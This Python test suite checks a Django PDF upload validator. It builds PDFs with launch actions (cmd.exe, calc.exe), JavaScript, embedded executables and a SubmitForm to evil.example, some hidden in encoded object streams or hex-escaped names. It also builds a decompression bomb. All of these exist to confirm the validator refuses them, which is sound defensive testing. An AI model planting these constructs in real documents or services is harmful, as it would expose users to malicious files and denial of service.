"""pypdf layer of the PDF upload check (issue 10.3): the PDF is opened with a real PDF library
and every indirect object is walked, also those inside a compressed object stream, whatever
its filter; active content of every kind is refused, a clean multi-page PDF is accepted, and
unreadable, encrypted, oversized or bomb PDFs get a clear refusal, never a 500."""

from __future__ import annotations

import base64
import io
import zlib

import pytest
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from mpp.applications import documents
from mpp.applications.documents import UploadRefused, clean_bytes

FILTERS = {
    "/FlateDecode": zlib.compress,
    "/ASCIIHexDecode": lambda d: d.hex().encode() + b">",
    "/ASCII85Decode": lambda d: base64.a85encode(d) + b"~>",
}

# Each kind of active content, as (extra catalog entries, extra page entries, extra objects).
ACTIVE = {
    "openaction-js": (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"", []),
    "names-javascript": (b"/Names << /JavaScript 5 0 R >>", b"", [b"<< /Names [] >>"]),
    "page-aa-launch": (b"", b"/AA << /O << /S /Launch /F (cmd.exe) >> >>", []),
    "openaction-uri-launch": (b"/OpenAction << /S /Launch /F (calc.exe) >>", b"", []),
    "embedded-files": (
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
        b"",
        [b"<< /Type /Filespec /F (a.exe) >>"],
    ),
    "embedded-file-stream-type": (b"/Extra 5 0 R", b"", [b"<< /Type /EmbeddedFile >>"]),
    "rich-media": (b"", b"/Annots [5 0 R]", [b"<< /Type /Annot /Subtype /RichMedia >>"]),
    "xfa": (b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"", [b"<< /Length 0 >>"]),
    "submit-form": (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", b"", []),
    "import-data": (b"/OpenAction << /S /ImportData /F (data.fdf) >>", b"", []),
    "hex-escaped-name": (b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", b"", []),
}


def objstm_pdf(filter_name: str, catalog: bytes = b"", page: bytes = b"", extra=()) -> bytes:
    """A PDF 1.5 whose catalog, pages, page and extra objects all sit in one object stream
    encoded with `filter_name`, listed by a cross-reference stream."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        b"<< /Producer (test) >>",
        *extra,
    ]
    offsets, chunks, pos = [], [], 0
    for body in bodies:
        offsets.append(pos)
        chunks.append(body + b"\n")
        pos += len(body) + 1
    header = b" ".join(b"%d %d" % (n + 1, off) for n, off in enumerate(offsets)) + b"\n"
    plain = header + b"".join(chunks)
    encoded = FILTERS[filter_name](plain)
    count = len(bodies)
    stm_num, xref_num = count + 1, count + 2
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    stm_at = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
        % (stm_num, count, len(header), filter_name.encode(), len(encoded))
    )
    out.write(encoded + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    rows = [bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    rows += [bytes([2]) + stm_num.to_bytes(4, "big") + i.to_bytes(2, "big") for i in range(count)]
    rows.append(bytes([1]) + stm_at.to_bytes(4, "big") + (0).to_bytes(2, "big"))
    rows.append(bytes([1]) + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big"))
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Info 4 0 R /Length %d >>\n"
        b"stream\n" % (xref_num, xref_num + 1, len(table))
    )
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def _refusal(body: bytes) -> str:
    with translation.override("en"), pytest.raises(UploadRefused) as caught:
        clean_bytes(body, "surat.pdf")
    return caught.value.message


@pytest.mark.parametrize("filter_name", list(FILTERS))
def test_clean_object_stream_pdf_is_read_by_pypdf_and_accepted(filter_name):
    body = objstm_pdf(filter_name)
    documents._check_pdf_structure(body)  # pypdf opens it and walks the object stream
    assert clean_bytes(body, "surat.pdf").content == body


@pytest.mark.parametrize("filter_name", list(FILTERS))
@pytest.mark.parametrize("kind", list(ACTIVE))
def test_active_content_in_an_object_stream_is_refused(kind, filter_name):
    catalog, page, extra = ACTIVE[kind]
    body = objstm_pdf(filter_name, catalog, page, extra)

    assert "scripts" in _refusal(body)


@pytest.mark.parametrize("filter_name", list(FILTERS))
@pytest.mark.parametrize("kind", list(ACTIVE))
def test_pypdf_layer_alone_finds_active_content(kind, filter_name):
    """Defence in depth: the pypdf walk refuses on its own, without the raw decoder."""
    catalog, page, extra = ACTIVE[kind]
    with translation.override("en"), pytest.raises(UploadRefused) as caught:
        documents._check_pdf_structure(objstm_pdf(filter_name, catalog, page, extra))
    assert "scripts" in caught.value.message


def _writer_pdf(pages: int, **catalog) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    for key, value in catalog.items():
        writer._root_object[NameObject("/" + key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_clean_multi_page_pdf_from_pypdf_writer_is_accepted():
    body = _writer_pdf(5)
    assert clean_bytes(body, "surat.pdf").content_type == "application/pdf"


def test_pypdf_writer_javascript_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    assert "scripts" in _refusal(out.getvalue())


def test_pypdf_writer_attachment_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("a.txt", b"hello")
    out = io.BytesIO()
    writer.write(out)
    assert "scripts" in _refusal(out.getvalue())


def test_too_many_pages_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "PDF_MAX_PAGES", 3)
    assert "more than 3 pages" in _refusal(_writer_pdf(4))


def test_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "PDF_MAX_OBJECTS", 3)
    assert "too complex" in _refusal(_writer_pdf(4))


def test_encrypted_pdf_from_pypdf_writer_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    assert "Password-protected" in _refusal(out.getvalue())


@pytest.mark.parametrize(
    "body",
    [
        b"%PDF-1.7\nthis is not a pdf at all\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj\ntrailer << /Root 1 0 R >>"
        b"\n%%EOF\n",
        b"%PDF-1.4\n" + b"[" * 5000 + b"\n%%EOF\n",
    ],
    ids=["garbage", "self-referencing-pages", "deep-nesting"],
)
def test_unreadable_pdf_gets_a_clear_indonesian_refusal(body):
    with translation.override("id"), pytest.raises(UploadRefused) as caught:
        clean_bytes(body, "surat.pdf")
    assert "PDF" in caught.value.message and "Please" not in caught.value.message
    with translation.override("en"), pytest.raises(UploadRefused) as caught:
        clean_bytes(body, "surat.pdf")
    assert "cannot be read" in caught.value.message or "damaged" in caught.value.message


def test_decompression_bomb_in_an_object_stream_is_refused():
    # 200 MB of zeros in about 200 KB: refused by the inflate budget before pypdf reads it.
    inflater = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    bomb = b"".join(inflater.compress(chunk) for _ in range(200)) + inflater.flush()
    old = FILTERS["/FlateDecode"]
    FILTERS["/FlateDecode"] = lambda _d: bomb
    try:
        body = objstm_pdf("/FlateDecode")
    finally:
        FILTERS["/FlateDecode"] = old
    assert len(body) < 1024 * 1024
    assert "too complex" in _refusal(body)


def test_memory_of_the_check_stays_bounded():
    """40 pages, ~2 MB of file, ~12 MB of inflated streams: the check holds one decoded
    stream at a time, so its peak stays near the file's size (no timing asserted)."""
    import os
    import tracemalloc

    from pypdf.generic import ArrayObject, DecodedStreamObject

    writer = PdfWriter()

    def flate(payload: bytes):
        stream = DecodedStreamObject()
        stream.set_data(payload)
        return writer._add_object(stream.flate_encode())

    for _ in range(40):
        page = writer.add_blank_page(width=595, height=842)
        page[NameObject("/Contents")] = ArrayObject(
            [flate(os.urandom(50 * 1024)), flate((b"0 0 m 9 9 l S\n" * 20_000)[: 300 * 1024])]
        )
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()

    tracemalloc.start()
    try:
        documents.check_pdf(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    inflated = 40 * (50 + 300) * 1024
    print(f"file {len(data)} B, inflated {inflated} B, peak {peak} B")
    assert peak < 3 * len(data) + 4 * 1024 * 1024 < inflated


@pytest.mark.django_db
@pytest.mark.parametrize(
    "body",
    [
        b"%PDF-1.7\nthis is not a pdf at all\n%%EOF\n",
        objstm_pdf("/ASCIIHexDecode", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        objstm_pdf("/ASCII85Decode", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ],
    ids=["unreadable", "hex-objstm-js", "a85-objstm-js"],
)
def test_api_refuses_with_400_in_indonesian_and_stores_nothing(client, draft, citizen, body):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(citizen)
    response = client.post(
        f"/api/v1/applications/{draft.public_id}/documents",
        {
            "requirement": draft.service.requirements.get(position=1).pk,
            "file": SimpleUploadedFile("surat.pdf", body),
        },
        HTTP_ACCEPT_LANGUAGE="id",
    )
    assert response.status_code == 400
    assert "PDF" in str(response.json()) and "Please" not in str(response.json())
    assert draft.documents.count() == 0
